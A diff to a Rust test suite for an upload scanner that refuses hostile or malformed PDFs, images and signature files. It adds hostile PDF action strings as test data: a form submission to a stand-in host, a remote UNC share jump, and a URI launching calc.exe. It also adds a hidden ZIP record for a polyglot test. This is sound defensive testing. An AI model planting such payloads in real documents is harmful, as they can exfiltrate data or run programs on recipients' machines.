@@ -1,7 +1,7 @@
 //! The malformed corpus (R4.4; research/security.md rows 24–29): each hostile or broken file is
 //! refused with its reason, and the good ones pass.
 use motcua_domain::dossier::FileKind;
-use motcua_scan::samples::{jpeg, pdf, pdf_with};
+use motcua_scan::samples::{heic, jpeg, pdf, pdf_with, png, png_declaring, webp};
 use motcua_scan::{Allow, Problem, inspect};
 
 fn check(kind: FileKind, bytes: &[u8]) -> Result<(), Problem> {
@@ -13,8 +13,8 @@ fn good_files_pass() {
     check(FileKind::Pdf, &pdf(5000)).unwrap();
     check(FileKind::Pdf, &pdf(300)).unwrap();
     check(FileKind::Jpeg, &jpeg(4000)).unwrap();
-    check(FileKind::Png, &png_image(64, 48)).unwrap();
-    check(FileKind::Webp, &webp_image(32, 32)).unwrap();
+    check(FileKind::Png, &png(64, 48)).unwrap();
+    check(FileKind::Webp, &webp(32, 32)).unwrap();
     check(FileKind::Heic, &heic(4000, 3000)).unwrap();
     assert_eq!(pdf(5000).len(), 5000);
     assert_eq!(jpeg(4000).len(), 4000);
@@ -65,6 +65,8 @@ fn scripts_and_actions_in_a_pdf_are_refused() {
         "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>",
         "/AcroForm << /Fields [] /XFA (x) >>",
         "/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
+        "/OpenAction << /S /GoToR /F (\\\\\\\\share\\\\x.pdf) /D [0 /Fit] >>",
+        "/OpenAction << /S /URI /URI (file:///C:/Windows/system32/calc.exe) >>",
     ] {
         let v = pdf_with("script", extra, 3000);
         assert!(
@@ -95,13 +97,61 @@ fn a_pdf_and_zip_polyglot_is_refused() {
     v.extend(b"PK\x03\x04\x14\x00\x00\x00\x00\x00");
     v.extend(b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\x2e\x00\x00\x00\x10\x00\x00\x00\x00\x00");
     assert!(matches!(check(FileKind::Pdf, &v), Err(Problem::Hidden(_))));
-    // Hidden inside a comment before the end marker, it is still a ZIP to an unpacker.
-    let zip = "PK\u{5}\u{6}";
+    // Hidden inside a comment before the end marker, it is still a ZIP to an unpacker: its
+    // central directory, then its end record.
+    let zip = "PK\u{1}\u{2}0123456789012345678901234567890123456789012PK\u{5}\u{6}\0\0\0\0\u{1}\0\u{1}\0\u{2e}\0\0\0\0\0\0\0\0\0";
     let t = String::from_utf8_lossy(&pdf(3000)).replace("% motcua ", &format!("% motcua {zip}"));
     assert!(matches!(
         check(FileKind::Pdf, t.as_bytes()),
         Err(Problem::Hidden(_))
     ));
+    // Compressed bytes that happen to spell the record's signature are not a ZIP.
+    let t = String::from_utf8_lossy(&pdf(3000)).replace("% motcua ", "% motcua PK\u{5}\u{6}");
+    check(FileKind::Pdf, t.as_bytes()).unwrap();
+}
+
+#[test]
+fn real_pdfs_pass() {
+    // Written by lopdf, and signed here (an incremental update with its own table).
+    let sample = motcua_signature::demo::sample_pdf("Giay phep", 20_000);
+    check(FileKind::Pdf, &sample).unwrap();
+    check(
+        FileKind::Pdf,
+        include_bytes!("../../../fuzz/corpus/signatures/motcua-result.pdf"),
+    )
+    .unwrap();
+    // Appended bytes after a signed file's end are refused; a proper update is not.
+    let mut more = include_bytes!("../../../fuzz/corpus/signatures/motcua-result.pdf").to_vec();
+    more.extend(b"\n9 0 obj (them) endobj\n");
+    assert!(matches!(
+        check(FileKind::Pdf, &more),
+        Err(Problem::PdfBroken(_))
+    ));
+}
+
+#[test]
+fn real_signatures_and_phone_photos_pass() {
+    check(
+        FileKind::Cms,
+        include_bytes!("../../../fuzz/corpus/signatures/openssl-attached.p7s"),
+    )
+    .unwrap();
+    check(
+        FileKind::Cms,
+        include_bytes!("../../../fuzz/corpus/signatures/openssl-detached.p7s"),
+    )
+    .unwrap();
+    let mut cut = include_bytes!("../../../fuzz/corpus/signatures/openssl-attached.p7s").to_vec();
+    cut.extend(b"more");
+    assert_eq!(
+        check(FileKind::Cms, &cut),
+        Err(Problem::CmsBroken),
+        "nothing after it"
+    );
+    // A motion photo: the video follows the JPEG's end.
+    let mut motion = jpeg(4000);
+    motion.extend(b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom");
+    check(FileKind::Jpeg, &motion).unwrap();
 }
 
 #[test]
@@ -116,7 +166,7 @@ fn anything_after_a_pdf_end_is_refused() {
 
 #[test]
 fn a_decompression_bomb_png_is_refused_before_decoding() {
-    let v = png_header_only(50_000, 50_000);
+    let v = png_declaring(50_000, 50_000);
     assert_eq!(
         check(FileKind::Png, &v),
         Err(Problem::TooManyPixels(50_000, 50_000))
@@ -130,21 +180,27 @@ fn broken_images_are_refused() {
         check(FileKind::Jpeg, &j[..j.len() / 2]),
         Err(Problem::ImageBroken(_))
     ));
-    let p = png_image(64, 48);
+    let p = png(64, 48);
     assert!(matches!(
         check(FileKind::Png, &p[..p.len() - 30]),
         Err(Problem::ImageBroken(_))
     ));
-    let mut trailing = png_image(64, 48);
+    let mut trailing = png(64, 48);
     trailing.extend(b"%PDF-1.7 hidden");
     assert!(matches!(
         check(FileKind::Png, &trailing),
         Err(Problem::Hidden(_))
     ));
-    let w = webp_image(32, 32);
+    let w = webp(32, 32);
     assert!(matches!(
         check(FileKind::Webp, &w[..w.len() - 8]),
         Err(Problem::ImageBroken(_))
+    ));
+    let mut after = webp(32, 32);
+    after.extend(b"%PDF-1.7 hidden");
+    assert!(matches!(
+        check(FileKind::Webp, &after),
+        Err(Problem::Hidden(_))
     ));
 }
 
@@ -173,81 +229,4 @@ fn a_cms_file_must_be_signed_data_and_nothing_more() {
         check(FileKind::Cms, &[0x30, 0x03, 0x02, 0x01, 0x00]),
         Err(Problem::CmsBroken)
     );
-}
-
-fn png_image(w: u32, h: u32) -> Vec<u8> {
-    let img = image::RgbImage::from_fn(w, h, |x, y| image::Rgb([x as u8, y as u8, 7]));
-    let mut out = std::io::Cursor::new(Vec::new());
-    img.write_to(&mut out, image::ImageFormat::Png).unwrap();
-    out.into_inner()
-}
-
-fn webp_image(w: u32, h: u32) -> Vec<u8> {
-    let img = image::RgbaImage::from_fn(w, h, |x, y| image::Rgba([x as u8, y as u8, 7, 255]));
-    let mut out = std::io::Cursor::new(Vec::new());
-    img.write_to(&mut out, image::ImageFormat::WebP).unwrap();
-    out.into_inner()
-}
-
-/// A PNG that declares `w` × `h` in its header, with one tiny data chunk: decoding it whole
-/// would take w × h × 3 bytes.
-fn png_header_only(w: u32, h: u32) -> Vec<u8> {
-    let mut v = b"\x89PNG\r\n\x1a\n".to_vec();
-    let mut ihdr = w.to_be_bytes().to_vec();
-    ihdr.extend(h.to_be_bytes());
-    ihdr.extend([8, 2, 0, 0, 0]);
-    chunk(&mut v, b"IHDR", &ihdr);
-    chunk(
-        &mut v,
-        b"IDAT",
-        &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01],
-    );
-    chunk(&mut v, b"IEND", &[]);
-    v
-}
-
-fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
-    out.extend((data.len() as u32).to_be_bytes());
-    let mut crc_of = kind.to_vec();
-    crc_of.extend(data);
-    out.extend(&crc_of);
-    out.extend(crc32(&crc_of).to_be_bytes());
-}
-
-fn crc32(data: &[u8]) -> u32 {
-    let mut c = 0xFFFF_FFFFu32;
-    for b in data {
-        c ^= u32::from(*b);
-        for _ in 0..8 {
-            c = if c & 1 == 1 {
-                0xEDB8_8320 ^ (c >> 1)
-            } else {
-                c >> 1
-            };
-        }
-    }
-    !c
-}
-
-/// An ISO base media file shaped like a HEIC: `ftyp`, `meta` with an `ispe` of `w` × `h`, and
-/// `mdat`.
-fn heic(w: u32, h: u32) -> Vec<u8> {
-    fn bx(kind: &[u8; 4], body: &[u8]) -> Vec<u8> {
-        let mut v = ((body.len() + 8) as u32).to_be_bytes().to_vec();
-        v.extend(kind);
-        v.extend(body);
-        v
-    }
-    let mut ispe = vec![0, 0, 0, 0];
-    ispe.extend(w.to_be_bytes());
-    ispe.extend(h.to_be_bytes());
-    let ipco = bx(b"ipco", &bx(b"ispe", &ispe));
-    let iprp = bx(b"iprp", &ipco);
-    let mut meta = vec![0, 0, 0, 0];
-    meta.extend(bx(b"hdlr", &[0; 24]));
-    meta.extend(iprp);
-    let mut v = bx(b"ftyp", b"heic\0\0\0\0mif1heic");
-    v.extend(bx(b"meta", &meta));
-    v.extend(bx(b"mdat", &[0x42; 64]));
-    v
 }
